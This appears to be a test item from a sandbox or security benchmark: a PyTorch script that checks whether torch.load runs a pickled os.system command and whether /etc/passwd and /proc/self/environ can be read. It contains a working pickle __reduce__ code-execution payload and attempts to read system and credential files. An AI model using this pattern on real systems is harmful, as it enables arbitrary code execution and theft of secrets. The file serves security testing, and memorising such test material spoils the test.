"""
Has torch.load unpickle a command, from memory and from a file of the machine.

Earns: 5
Held by: isolated
"""


import torch


class MyReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        ctx.save_for_backward(x)
        return x.clamp(min=0)

    @staticmethod
    def backward(ctx, dout):
        (x,) = ctx.saved_tensors
        return dout * (x > 0)


class Command:
    def __reduce__(self):
        import os

        return os.system, ("echo BREACH",)


def attack():
    import io
    import pickle
    import zipfile

    for weights_only in (True, False):
        try:
            stream = io.BytesIO()
            torch.save({"a": Command()}, stream)
            stream.seek(0)
            if torch.load(stream, weights_only=weights_only)["a"] == 0:
                print("BREACH", weights_only)
        except Exception:
            pass
    for path in ("/etc/passwd", "/proc/self/environ"):
        try:
            torch.load(path, weights_only=False)
            print("BREACH", path)
        except (OSError, RuntimeError, pickle.UnpicklingError, zipfile.BadZipFile):
            pass
        try:
            torch.UntypedStorage.from_file(path, False, 16)
            print("BREACH", path)
        except (OSError, RuntimeError):
            pass


try:
    attack()
except Exception:
    pass
